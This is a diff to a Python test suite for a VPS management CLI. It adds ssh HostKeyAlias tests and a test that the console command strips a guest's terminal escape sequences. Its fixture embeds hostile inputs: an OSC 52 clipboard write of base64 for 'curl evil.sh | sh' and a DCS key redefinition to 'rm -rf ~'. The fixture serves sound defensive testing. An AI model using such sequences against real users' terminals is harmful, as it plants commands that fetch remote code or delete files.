@@ -5,6 +5,7 @@ consistency columns. One image (``debian-12``) is registered; servers are blank 
 from __future__ import annotations
 
 import json
+import sys
 from collections.abc import Iterator
 from typing import Any
 
@@ -140,7 +141,7 @@ def test_reboot_waits_until_running_again(run: Run, alice: ApiClient) -> None:
     assert run("servers", "reboot", "999999").code == 3
 
 
-def test_console_prints_the_text_raw(run: Run, alice: ApiClient) -> None:
+def test_console_prints_the_text(run: Run, alice: ApiClient) -> None:
     server = alice.create_server("web-1")
     expected = alice.wait_console(server["id"])  # the fake console has a line per boot
     result = run("servers", "console", str(server["id"]))
@@ -153,15 +154,49 @@ def test_console_prints_the_text_raw(run: Run, alice: ApiClient) -> None:
     assert run("servers", "console", "999999").code == 3
 
 
+HOSTILE_CONSOLE = (
+    b"\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: writes the user's clipboard
+    b"\x1b]0;owned\x07"  # OSC 0: the window title
+    b"\x1b[2J\x1b[H"  # clears the screen
+    b"\x1bP0;1|17/rm -rf ~\x1b\\"  # DCS: redefines a key
+    b"\xc2\x9b2J"  # C1 CSI, UTF-8 encoded
+    b"[\x1b[0;32m  OK  \x1b[0m] Started ssh.service\r\n"
+    b"login: \x1b]52;c;cut off"  # a sequence the tail ends in
+)
+
+
+@pytest.mark.parametrize("terminal", [False, True], ids=["piped", "terminal"])
+def test_console_drops_the_guests_control_sequences(
+    run: Run,
+    alice: ApiClient,
+    fake_driver: FakeDriver,
+    monkeypatch: pytest.MonkeyPatch,
+    terminal: bool,
+) -> None:
+    """Issue 22, item 8: a guest's escapes reached the user's terminal raw."""
+    server = alice.create_server("web-1")
+    fake_driver.write_console(server["id"], HOSTILE_CONSOLE)
+    monkeypatch.setattr(sys.stdout, "isatty", lambda: terminal)
+    monkeypatch.delenv("NO_COLOR", raising=False)
+    result = run("servers", "console", str(server["id"]), "--bytes", str(len(HOSTILE_CONSOLE)))
+    assert result.code == 0, result.err
+    ok = "[\x1b[0;32m  OK  \x1b[0m]" if terminal else "[  OK  ]"
+    assert result.out == f"{ok} Started ssh.service\nlogin: "
+    # NO_COLOR: the terminal gets the text alone.
+    monkeypatch.setenv("NO_COLOR", "1")
+    plain = run("servers", "console", str(server["id"]), "--bytes", str(len(HOSTILE_CONSOLE)))
+    assert plain.out == "[  OK  ] Started ssh.service\nlogin: "
+
+
 def test_ssh_print_shows_the_command(run: Run, alice: ApiClient, execs: list[list[str]]) -> None:
     deb = debian_server(alice)
-    host, port = deb["ssh"]["host"], deb["ssh"]["port"]
+    host, port, alias = deb["ssh"]["host"], deb["ssh"]["port"], f"vpsd-vpsd.test-server-{deb['id']}"
     printed = run("servers", "ssh", str(deb["id"]), "--print")
     assert printed.code == 0, printed.err
-    assert printed.out == f"ssh -p {port} root@{host}\n"
+    assert printed.out == f"ssh -p {port} -o HostKeyAlias={alias} root@{host}\n"
 
     extra = run("servers", "ssh", str(deb["id"]), "--print", "--", "-i", "my key", "uptime")
-    assert extra.out == f"ssh -p {port} root@{host} -i 'my key' uptime\n"
+    assert extra.out == f"ssh -p {port} -o HostKeyAlias={alias} root@{host} -i 'my key' uptime\n"
     assert execs == []
 
 
@@ -170,7 +205,37 @@ def test_ssh_execs_ssh(run: Run, alice: ApiClient, execs: list[list[str]]) -> No
     host, port = deb["ssh"]["host"], deb["ssh"]["port"]
     result = run("servers", "ssh", str(deb["id"]), "--", "-v")
     assert result.code == 0, result.err
-    assert execs == [["ssh", "-p", str(port), f"root@{host}", "-v"]]
+    alias = f"HostKeyAlias=vpsd-vpsd.test-server-{deb['id']}"
+    assert execs == [["ssh", "-p", str(port), "-o", alias, f"root@{host}", "-v"]]
+
+
+def test_a_new_server_on_a_freed_port_gets_a_host_key_name_of_its_own(
+    run: Run, alice: ApiClient
+) -> None:
+    """Issue 22, item 13: ssh keyed the host key by host and port, so a new server given a
+    deleted one's port met the old key (REMOTE HOST IDENTIFICATION HAS CHANGED)."""
+    first = debian_server(alice, "deb-1")
+    before = run("servers", "ssh", str(first["id"]), "--print").out
+    assert alice.delete(f"/servers/{first['id']}/").status_code == 204
+    alice.wait_server(first["id"], None)
+    second = debian_server(alice, "deb-2")
+    assert second["ssh"] == first["ssh"]  # the port was freed and given again
+    after = run("servers", "ssh", str(second["id"]), "--print").out
+    assert after != before
+    assert f"HostKeyAlias=vpsd-vpsd.test-server-{second['id']} " in after
+
+
+@pytest.mark.parametrize(
+    ("url", "alias"),
+    [
+        ("http://127.0.0.1:8000", "vpsd-127.0.0.1-8000-server-7"),
+        ("https://vpsd.example.com", "vpsd-vpsd.example.com-server-7"),
+        ("https://VPSD.example.com:8443/", "vpsd-vpsd.example.com-8443-server-7"),
+        ("http://[::1]:8000", "vpsd---1-8000-server-7"),
+    ],
+)
+def test_host_key_alias_names_the_api_and_the_server(url: str, alias: str) -> None:
+    assert vpsctl_servers.host_key_alias(url, 7) == alias
 
 
 def test_ssh_into_a_blank_server_fails_clearly(
